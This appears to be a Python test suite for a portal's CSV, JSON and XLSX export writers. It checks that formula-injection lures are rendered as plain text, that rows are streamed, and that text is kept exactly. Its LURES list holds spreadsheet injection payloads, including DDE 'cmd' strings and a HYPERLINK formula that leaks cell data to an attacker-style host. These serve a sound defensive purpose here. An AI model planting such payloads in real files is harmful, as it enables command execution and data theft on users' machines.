"""The forms of exports: no cell is run, no row is lost, and what is exact stays exact."""

from __future__ import annotations

import csv
import io
import json
import re
import secrets
import unicodedata
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from portal.exports import xlsx_file
from portal.exports.formulas import harmless, starts_a_formula
from portal.exports.registry import WRITERS
from portal.exports.table import Row, Table, columns
from portal.exports.xlsx_cell import MOST_CHARACTERS, column_letters, sheet_text

COLUMNS = columns("id:id name count:integer score:number ready:boolean at:time more:json")
PK = UUID("8a5e4c1e-7d1b-4f0e-9d0a-0a4f6f2b7c11")
AT = datetime(2026, 3, 14, 9, 26, 53, tzinfo=UTC)
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
LURES = [f"{start}cmd|' /C calc'!A0" for start in FORMULAS] + [
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "'=1+1",
    '"=1+1',
    "“=1+1",
    "\ufeff@SUM(A1)",
    "\1=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
]
TEXT = st.one_of(
    st.text(max_size=40),
    st.sampled_from(LURES),
    st.builds(str.__add__, st.sampled_from([*FORMULAS, " ", "'", '"', "\u3000", "#"]), st.text(max_size=20)),
)
FEW = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


class Kept(io.BytesIO):
    """What was written, all of it: for tests."""


def a_table(rows: list[Row], **more: Any) -> Table:
    return Table("rows", COLUMNS, lambda: iter(rows), len(rows), "rows", **more)


def written(form: str, table: Table) -> bytes:
    kept = Kept()
    WRITERS[form].write(table, kept)
    return kept.getvalue()


def a_row(name: str, more: Any = None) -> Row:
    return PK, name, 3, 0.5, True, AT, {"a": 1} if more is None else more


def test_it_works() -> None:
    rows = [a_row("Marisol"), (PK, "", None, None, None, None, None)]
    lines = list(csv.reader(io.StringIO(written("csv", a_table(rows)).decode("utf-8-sig"))))
    assert lines[0] == [column.name for column in COLUMNS]
    assert lines[1] == [str(PK), "Marisol", "3", "0.5", "yes", "2026-03-14T09:26:53Z", '{"a": 1}']
    assert lines[2] == [str(PK), "", "", "", "", "", ""]
    said = {"id": str(PK), "name": "Marisol", "count": 3, "score": 0.5, "ready": True}
    said |= {"at": "2026-03-14T09:26:53Z", "more": {"a": 1}}
    assert json.loads(written("ndjson", a_table(rows)).splitlines()[0]) == said
    assert json.loads(written("json", a_table(rows)))[0] == said
    sheet = load_workbook(io.BytesIO(written("xlsx", a_table(rows))))["rows"]
    assert [cell.value for cell in sheet[2]] == [str(PK), "Marisol", 3, 0.5, True, "2026-03-14T09:26:53Z", '{"a": 1}']


def test_nothing_is_a_file_too() -> None:
    assert written("csv", a_table([])).decode("utf-8-sig").count("\r\n") == 1
    assert written("ndjson", a_table([])) == b""
    assert json.loads(written("json", a_table([]))) == []
    assert json.loads(written("json", a_table([], head={"run": {"id": 1}}, listed="entries"))) == {
        "run": {"id": 1},
        "entries": [],
    }
    assert load_workbook(io.BytesIO(written("xlsx", a_table([]))))["rows"].max_row == 1


def runs(text: str) -> bool:
    """Whether a careless spreadsheet runs a cell: said here by other means than the code uses."""
    if text[:1] in "\t\r\n" and text:
        return True
    left = text
    while left and (
        unicodedata.category(left[0]) in {"Zs", "Zl", "Zp", "Cc", "Cf", "Pi", "Pf"}
        or left[0] in "\"'`\u201e\u201a\uff02\uff07"
    ):
        if left[0] == "'" and left is text:
            return False  # the apostrophe that makes a cell text
        left = left[1:]
    return unicodedata.normalize("NFKC", left[:1])[:1] in {"=", "+", "-", "@"}


@pytest.mark.parametrize("lure", LURES)
def test_known_lures_are_text(lure: str) -> None:
    assert starts_a_formula(lure)
    assert runs(lure) or lure.startswith("'")
    assert not runs(harmless(lure))
    row = a_row(lure)
    cell = list(csv.reader(io.StringIO(written("csv", a_table([row])).decode("utf-8-sig"), newline="")))[1][1]
    assert cell.startswith("'")
    shown = load_workbook(io.BytesIO(written("xlsx", a_table([row]))))["rows"].cell(2, 2)
    assert shown.data_type in {"s", "inlineStr"}
    assert shown.quotePrefix or lure.startswith("\1")  # which XML does not take, so that something else stands first


def test_ordinary_text_stays_as_it_is() -> None:
    for text in ("Marisol", "a=b", "3 - 4", "x@mail.example", "#1", "Ökonomie", "", "   plain"):
        assert harmless(text) == text


@FEW
@given(st.lists(TEXT, min_size=1, max_size=5))
def test_no_text_of_a_csv_is_run(names: list[str]) -> None:
    raw = written("csv", a_table([a_row(name, {"said": name}) for name in names])).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(lines) == len(names) + 1
    for line, name in zip(lines[1:], names, strict=True):
        assert not any(runs(cell) for cell in line)
        kept = name.replace("\0", "\ufffd")
        assert line[1] in {kept, f"'{kept}"}


@FEW
@given(st.lists(TEXT, min_size=1, max_size=4))
def test_no_cell_of_a_workbook_is_a_formula(names: list[str]) -> None:
    made = written("xlsx", a_table([a_row(name, {"said": name}) for name in names]))
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet or b't="e"' in sheet for sheet in sheets)
    sheet = load_workbook(io.BytesIO(made))["rows"]
    for number, name in enumerate(names, start=2):
        cell = sheet.cell(number, 2)
        assert cell.data_type in {"s", "inlineStr"} or cell.value is None
        if runs(sheet_text(name)):
            assert cell.quotePrefix


@FEW
@given(st.lists(st.text(max_size=60) | st.sampled_from(LURES), max_size=5), st.booleans())
def test_json_keeps_the_exact_text(names: list[str], headed: bool) -> None:  # noqa: FBT001 - drawn
    more: dict[str, Any] = {"head": {"run": {"n": 1}}, "listed": "entries"} if headed else {}
    table = a_table([a_row(name, {"said": name}) for name in names], **more)
    lines = [json.loads(line) for line in written("ndjson", table).decode().split("\n") if line]
    whole = json.loads(written("json", table))
    assert [line["name"] for line in lines] == [line["more"]["said"] for line in lines] == names
    assert (whole["entries"] if headed else whole) == lines


def test_what_json_does_not_have_is_still_json() -> None:
    table = a_table([(PK, "\ud800", 1, float("nan"), None, None, None)])
    assert json.loads(written("ndjson", table))["name"] == "\ud800"
    assert json.loads(written("json", table))[0]["score"] is None
    assert "?" in written("csv", table).decode()
    load_workbook(io.BytesIO(written("xlsx", table)))


def test_rows_go_on_in_another_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_file, "MOST_ROWS", 4)
    book = load_workbook(io.BytesIO(written("xlsx", a_table([a_row(f"n{number}") for number in range(7)]))))
    assert book.sheetnames == ["rows", "rows (2)", "rows (3)"]
    assert [sheet.max_row for sheet in book] == [4, 4, 2]
    assert all(sheet.cell(1, 2).value == "name" for sheet in book)
    assert [row[1].value for sheet in book for row in sheet.iter_rows(min_row=2)] == [f"n{n}" for n in range(7)]


def test_rows_go_on_in_another_sheet_before_one_is_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_file, "MOST_BYTES", 2_000)
    monkeypatch.setattr(xlsx_file, "AT_ONCE", 100)
    made = written("xlsx", a_table([a_row(f"n{number}") for number in range(20)]))
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        sheets = [item.file_size for item in archive.infolist() if item.filename.startswith("xl/worksheets/")]
    assert len(sheets) > 1
    assert max(sheets) < 2_700  # the row with which it was full, and the end
    book = load_workbook(io.BytesIO(made))
    assert [row[1].value for sheet in book for row in sheet.iter_rows(min_row=2)] == [f"n{n}" for n in range(20)]


@FEW
@given(TEXT | st.text(alphabet="_x04AD<>&'\"\r\n\t ]", max_size=30))
def test_a_workbook_keeps_the_text(name: str) -> None:
    cell = load_workbook(io.BytesIO(written("xlsx", a_table([a_row(name)]))))["rows"].cell(2, 2)
    escaped = sheet_text(re.sub("_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", name))
    assert (cell.value or "") in {sheet_text(name), escaped}  # as a reader does or does not unescape


def test_columns_have_the_names_of_spreadsheets() -> None:
    names = {0: "A", 25: "Z", 26: "AA", 51: "AZ", 52: "BA", 701: "ZZ", 702: "AAA", 16_383: "XFD"}
    assert {number: column_letters(number) for number in names} == names


def test_a_workbook_is_packed_on_its_way_out() -> None:
    """One that gathered a sheet first would have read every row before it wrote any."""
    read, wrote = [], []

    class Told(io.BytesIO):
        def write(self, data: Any) -> int:
            wrote.append(len(read))
            return super().write(data)

        def seek(self, *_where: int) -> int:
            raise OSError  # neither can an export's file

        tell = seek

    def rows() -> Iterator[Row]:
        for number in range(20_000):
            read.append(number)
            yield a_row(secrets.token_hex(20))

    told = Told()
    WRITERS["xlsx"].write(Table("rows", COLUMNS, rows, 20_000, "rows"), told)
    assert sum(0 < count < 10_000 for count in wrote) > 0
    assert load_workbook(io.BytesIO(told.getvalue()), read_only=True)["rows"].max_row in {None, 20_001}


def test_a_cell_takes_no_more_than_it_can_hold() -> None:
    assert sheet_text("a" * MOST_CHARACTERS) == "a" * MOST_CHARACTERS
    for text in ("a" * (MOST_CHARACTERS + 1), "😀" * MOST_CHARACTERS):
        cut = sheet_text(text)
        assert cut.endswith("…")
        assert len(cut.encode("utf-16-le")) // 2 <= MOST_CHARACTERS
    assert sheet_text("a\0b\x0bc\ufffed\te") == "a\ufffdb\ufffdc\ufffdd\te"


def test_what_looks_escaped_stays_as_it_stands() -> None:
    sheet = load_workbook(io.BytesIO(written("xlsx", a_table([a_row("_x003D_1+1")]))))["rows"]
    assert sheet.cell(2, 2).value in {"_x003D_1+1", "_x005F_x003D_1+1"}  # as a reader does or does not unescape


def test_writers_read_one_row_after_another() -> None:
    """A writer that gathered the rows first would have them all read before the first piece."""
    read = []

    def rows() -> Iterator[Row]:
        for number in range(5_000):
            read.append(number)
            yield a_row(str(number))

    for form in ("csv", "ndjson", "json"):
        read.clear()
        chunks = WRITERS[form].chunks
        assert chunks is not None
        pieces = chunks(Table("rows", COLUMNS, rows, 5_000, "rows"))
        assert next(pieces)
        assert next(pieces)
        assert len(read) < 1_000
